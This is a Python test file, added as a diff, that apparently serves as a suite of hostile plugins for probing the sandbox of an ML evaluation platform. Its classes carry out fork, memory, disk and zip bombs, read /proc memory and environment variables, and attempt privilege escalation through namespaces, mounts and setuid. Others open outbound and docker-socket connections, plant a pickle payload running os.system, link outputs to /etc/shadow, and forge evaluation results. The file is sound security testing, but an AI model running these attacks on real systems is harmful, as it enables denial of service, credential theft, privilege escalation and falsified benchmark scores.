@@ -1,0 +1,479 @@
+"""Hostile methods, one class an attack. This file is copied into a plugin folder and only ever imported in a sandbox.
+
+An attack prints what it got hold of, as lines that begin with `GOT`, and then predicts like anybody else, unless it is
+one that is meant to end the run.
+"""
+
+import contextlib
+import ctypes
+import gc
+import json
+import mmap
+import os
+import pickle
+import signal
+import socket
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import numpy as np
+
+from farfield import Images, MethodSpec, Resources, RunContext, TaskFamily, TrackClaims, hookimpl
+
+OUT = Path("/farfield/out")
+
+
+def got(*what):
+    print("GOT", *what, flush=True)
+
+
+class Method:
+    """Predicts by brightness, after the attack."""
+
+    def __init__(self, context: RunContext):
+        self.context = context
+        self.classes = context.class_count
+        self.done = False
+
+    def fit(self, train):
+        self.train = train
+
+    def predict(self, images):
+        if not self.done:
+            self.done = True
+            self.attack(images)
+        bucket = (images.mean(axis=(1, 2, 3)) / 256 * self.classes).astype(int)
+        return np.eye(self.classes, dtype=np.float32)[bucket % self.classes]
+
+    def attack(self, images):
+        pass
+
+
+class Harmless(Method):
+    """The next run on the same worker."""
+
+
+class ReadsTheEnvironment(Method):
+    def attack(self, images):
+        texts = [str(dict(os.environ))]
+        for path in Path("/proc").glob("[0-9]*/environ"):
+            with contextlib.suppress(OSError):
+                texts.append(path.read_text(errors="replace"))
+        for path in Path("/proc").glob("[0-9]*/cmdline"):
+            with contextlib.suppress(OSError):
+                texts.append(path.read_text(errors="replace"))
+        print("\n".join(texts), flush=True)
+
+
+class SearchesTheFiles(Method):
+    """Looks for labels, packs, credentials and other runs in every file it can reach."""
+
+    def attack(self, images):
+        for folder, names, files in os.walk("/"):
+            if (
+                folder in ("/proc", "/sys", "/usr", "/lib", "/lib64", "/dev", "/farfield/base")
+                or folder == sys.base_prefix
+            ):
+                names[:] = []
+                continue
+            for name in files:
+                path = Path(folder) / name
+                print("SAW", path)
+                with contextlib.suppress(OSError, ValueError):
+                    if b"canary" in path.read_bytes()[: 1 << 20] and path.suffix != ".py" and path.suffix != ".pyc":
+                        got("a canary in", path)
+                if name in ("labels.npy", "sets.npy", "domains.npy", "manifest.json") and "train" not in path.parts:
+                    got(path)
+
+
+class ReadsOtherProcesses(Method):
+    def attack(self, images):
+        mine = os.getpid()
+        for path in Path("/proc").glob("[0-9]*"):
+            print("PROCESS", (path / "cmdline").read_text(errors="replace").replace("\0", " ")[:80])
+            if path.name == str(mine):
+                continue
+            with contextlib.suppress(OSError), (path / "mem").open("rb") as memory:
+                memory.seek(int((path / "maps").read_text().split("-")[0], 16))
+                got("memory of", path.name, memory.read(8))
+        libc = ctypes.CDLL(None, use_errno=True)
+        for pid in (1, os.getppid()):
+            if pid not in (0, mine) and libc.ptrace(16, pid, 0, 0) == 0:
+                got("ptrace of", pid)
+
+
+class SearchesTheMemory(Method):
+    """Labels and platform objects among all objects of this process."""
+
+    def attack(self, images):
+        names = [name for name in sys.modules if name.split(".")[0] in FORBIDDEN]
+        if names:
+            got("modules", names)
+        for found in gc.get_objects():
+            name = type(found).__module__ or ""
+            if str(name).split(".")[0] in FORBIDDEN:
+                got("object", type(found))
+
+
+FORBIDDEN = ("farfield_workers", "farfield_evaluators", "farfield_web", "farfield_local", "farfield_demo", "django")
+
+
+class ImportsThePlatform(Method):
+    def attack(self, images):
+        for name in (*FORBIDDEN, "celery", "docker", "sklearn"):
+            try:
+                __import__(name)
+                got("module", name)
+            except ImportError:
+                pass
+
+
+class PatchesTheClock(Method):
+    """Pretends to take no time at all."""
+
+    def attack(self, images):
+        time.sleep(1.2)
+        for name in ("time", "monotonic", "perf_counter", "process_time"):
+            setattr(time, name, lambda: 0.0)
+
+
+class ForkBomb(Method):
+    def attack(self, images):
+        while True:
+            with contextlib.suppress(OSError):
+                os.fork()
+
+
+class MemoryBomb(Method):
+    def attack(self, images):
+        blocks = []
+        while True:
+            blocks.append(np.ones(1 << 22))
+
+
+class MemoryBombOfMany(Method):
+    """Each process stays below the limit; together they do not."""
+
+    def attack(self, images):
+        for _ in range(12):
+            if os.fork() == 0:
+                block = np.ones(20 << 20)
+                time.sleep(600)
+                print(block.sum())
+        time.sleep(600)
+
+
+class SharedMemoryBomb(Method):
+    def attack(self, images):
+        with open("/dev/shm/bomb", "wb") as file:
+            while True:
+                file.write(bytes(8 << 20))
+
+
+class AddressSpace(Method):
+    """Maps far more than it may have."""
+
+    def attack(self, images):
+        held = []
+        while True:
+            block = mmap.mmap(-1, 64 << 20)
+            for at in range(0, len(block), 4096):
+                block[at] = 1
+            held.append(block)
+
+
+class DiskBomb(Method):
+    def attack(self, images):
+        number = 0
+        while True:
+            with (OUT / f"bomb-{number}").open("wb") as file:
+                for _ in range(8):
+                    file.write(bytes(1 << 20))
+            number += 1
+
+
+class OneLongFile(Method):
+    def attack(self, images):
+        with (OUT / "bomb").open("wb") as file:
+            while True:
+                file.write(bytes(8 << 20))
+
+
+class SparseFile(Method):
+    def attack(self, images):
+        with (OUT / "bomb").open("wb") as file:
+            file.truncate(1 << 40)
+        time.sleep(600)
+
+
+class ManyFiles(Method):
+    def attack(self, images):
+        number = 0
+        while True:
+            (OUT / "work" / str(number)).mkdir()
+            number += 1
+
+
+class FillsTmp(Method):
+    def attack(self, images):
+        with open("/tmp/bomb", "wb") as file:
+            while True:
+                file.write(bytes(8 << 20))
+
+
+class ZipBomb(Method):
+    """A weight file of some kilobytes that unpacks to gigabytes."""
+
+    def attack(self, images):
+        path = OUT / "work" / "weights.zip"
+        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+            for number in range(4):
+                with archive.open(f"weights-{number}", "w") as member:
+                    for _ in range(64):
+                        member.write(bytes(1 << 20))
+        with zipfile.ZipFile(path) as archive:
+            archive.extractall(OUT / "work")
+
+
+class InfiniteLoop(Method):
+    def attack(self, images):
+        while True:
+            pass
+
+
+class IgnoresSignals(Method):
+    def attack(self, images):
+        for number in range(1, 32):
+            with contextlib.suppress(OSError, ValueError):
+                signal.signal(number, signal.SIG_IGN)
+        while True:
+            time.sleep(0.01)
+
+
+class WritesOutside(Method):
+    def attack(self, images):
+        places = ["/", "/etc", "/usr/lib", "/farfield", "/farfield/in", "/farfield/in/test", "/farfield/base"]
+        places += ["/farfield/plugin", "/dev", "/proc/sys/kernel", "/proc/self", "/sys", sys.base_prefix, "/root"]
+        for place in places:
+            with contextlib.suppress(OSError):
+                (Path(place) / "planted").write_text("planted")
+                got("wrote in", place)
+        for path in ("/farfield/in/job.json", "/farfield/in/test/spans.npy", "/farfield/base/farfield/runner.py"):
+            with contextlib.suppress(OSError), open(path, "ab"):
+                got("opened", path)
+            with contextlib.suppress(OSError):
+                os.unlink(path)
+                got("removed", path)
+
+
+class Remounts(Method):
+    """Tries for privileges: users, namespaces, mounts, devices, modules."""
+
+    def attack(self, images):
+        libc = ctypes.CDLL(None, use_errno=True)
+        for flags in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
+            if libc.unshare(flags) == 0:
+                got("a namespace", hex(flags))
+        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
+            got("a mount")
+        if libc.mount(b"none", b"/farfield/in", None, 32, None) == 0:
+            got("a remount")
+        for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chroot("/tmp")):
+            with contextlib.suppress(OSError):
+                call()
+                got("a privilege")
+        for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/fuse", "/dev/kvm", "/proc/kcore"):
+            with contextlib.suppress(OSError), open(path, "rb"):
+                got(path)
+        with contextlib.suppress(OSError):
+            os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0))
+            got("a device")
+        with contextlib.suppress(OSError):
+            os.listdir("/proc/1/root/var")
+            got("the root of process 1")
+
+
+class ConnectsOut(Method):
+    """`addresses` in the plugin's folder says where something listens."""
+
+    def attack(self, images):
+        targets = json.loads((Path(__file__).parent / "addresses.json").read_text())
+        for family, address in (
+            (socket.AF_INET, ("127.0.0.1", targets["port"])),
+            (socket.AF_INET6, ("::1", targets["port6"])),
+            (socket.AF_INET, (targets["host"], targets["port"])),
+            (socket.AF_INET, ("192.0.2.1", 80)),
+            (socket.AF_UNIX, targets["unix"]),
+            (socket.AF_UNIX, "\0" + targets["abstract"]),
+            (socket.AF_UNIX, "/var/run/docker.sock"),
+            (socket.AF_UNIX, "/run/systemd/notify"),
+        ):
+            with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as one:
+                one.settimeout(1)
+                one.connect(address)
+                got("a connection to", address)
+        with contextlib.suppress(OSError):
+            got("an address", socket.getaddrinfo("example.com", 80))
+        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+            one.sendto(b"label", (targets["host"], 53))
+            got("a datagram left")
+        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_RAW, 1):
+            got("a raw socket")
+
+
+class LeavesADaemon(Method):
+    def attack(self, images):
+        script = "import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(600)"
+        subprocess.Popen([sys.executable, "-c", script, "farfield-daemon"])
+        time.sleep(0.3)
+
+
+class KillsEverything(Method):
+    def attack(self, images):
+        for pid in (1, os.getppid(), -1):
+            with contextlib.suppress(OSError):
+                os.kill(pid, signal.SIGKILL)
+        os.kill(os.getpid(), signal.SIGKILL)
+
+
+class Exploit:
+    def __reduce__(self):
+        return (os.system, ("touch /tmp/farfield-exploited",))
+
+
+class Forges(Method):
+    """Writes its own output and leaves before the runner can."""
+
+    def forge(self, count):
+        np.save(OUT / "logits.npy", np.zeros((count, self.classes), np.float32))
+
+    def attack(self, images):
+        spans = np.load("/farfield/in/test/spans.npy")
+        self.forge(len(spans))
+        (OUT / "result.json").write_text('{"outputs": ["logits"]}')
+        os._exit(0)
+
+
+class ReturnsAPickle(Forges):
+    def forge(self, count):
+        (OUT / "logits.npy").write_bytes(pickle.dumps(Exploit()))
+
+
+class ReturnsAnObjectArray(Forges):
+    def forge(self, count):
+        np.save(OUT / "logits.npy", np.array([Exploit()] * count, dtype=object), allow_pickle=True)
+
+
+class ReturnsNaN(Forges):
+    def forge(self, count):
+        np.save(OUT / "logits.npy", np.full((count, self.classes), np.nan, np.float32))
+
+
+class TooManyRows(Forges):
+    def forge(self, count):
+        np.save(OUT / "logits.npy", np.zeros((10 * count, self.classes), np.float32))
+
+
+class TooFewRows(Forges):
+    def forge(self, count):
+        np.save(OUT / "logits.npy", np.zeros((count - 1, self.classes), np.float32))
+
+
+class HeaderLies(Forges):
+    """A header that claims a petabyte."""
+
+    def forge(self, count):
+        header = {"descr": "<f4", "fortran_order": False, "shape": (1 << 40, self.classes)}
+        with (OUT / "logits.npy").open("wb") as file:
+            np.lib.format.write_array_header_1_0(file, header)
+
+
+class LinksOut(Forges):
+    def forge(self, count):
+        (OUT / "logits.npy").symlink_to("/etc/passwd")
+        (OUT / "probe-repeat.npy").symlink_to("/etc/shadow")
+
+
+class NamedPipe(Forges):
+    """Opening it waits for a writer that never comes."""
+
+    def forge(self, count):
+        os.mkfifo(OUT / "logits.npy")
+        with contextlib.suppress(OSError):
+            (OUT / "progress.json").unlink()
+        os.mkfifo(OUT / "progress.json")
+        time.sleep(1.5)
+
+
+class DeepJson(Forges):
+    def forge(self, count):
+        super().forge(count)
+        (OUT / "progress.json").write_text("[" * 1_000_000)
+        (OUT / "error.json").write_text("{" * 1_000_000)
+        time.sleep(1.0)
+
+
+class LocksItsFolders(Forges):
+    """Takes away the permission to look into what it leaves, so that it cannot be removed."""
+
+    def forge(self, count):
+        deep = OUT / "work" / "a" / "b"
+        deep.mkdir(parents=True)
+        (deep / "file").write_text("x")
+        for folder in (deep, deep.parent, deep.parent.parent):
+            folder.chmod(0)
+        super().forge(count)
+
+
+class BlamesThePlatform(Method):
+    """Says that the platform failed, to be run again for ever at no cost."""
+
+    def attack(self, images):
+        (OUT / "error.json").write_text(json.dumps({"code": "platform.error", "message": "<script>x</script>" * 1000}))
+        os._exit(1)
+
+
+class FloodsTheLog(Method):
+    def attack(self, images):
+        end = time.monotonic() + 1.0
+        while time.monotonic() < end:
+            os.write(1, b"y" * 65536)
+        print("the last line", flush=True)
+
+
+class ClosesItsOutput(Method):
+    def attack(self, images):
+        for descriptor in range(3, 256):
+            with contextlib.suppress(OSError):
+                os.close(descriptor)
+
+
+def name_of(words):
+    return "hostile" + "".join("-" + c.lower() if c.isupper() else c for c in words.replace("NaN", "Nan"))
+
+
+def spec(build):
+    return MethodSpec(
+        name=name_of(build.__name__),
+        family=TaskFamily.CLASSIFICATION,
+        summary=build.__name__,
+        build=build,
+        inputs=Images(size=16),
+        claims=TrackClaims(backbone="none"),
+        resources=Resources(memory_gib=0.5, minutes=0.1),
+    )
+
+
+def every(kind):
+    for one in kind.__subclasses__():
+        if one is not Forges:
+            yield one
+        yield from every(one)
+
+
+@hookimpl
+def farfield_methods():
+    return [spec(build) for build in every(Method)]
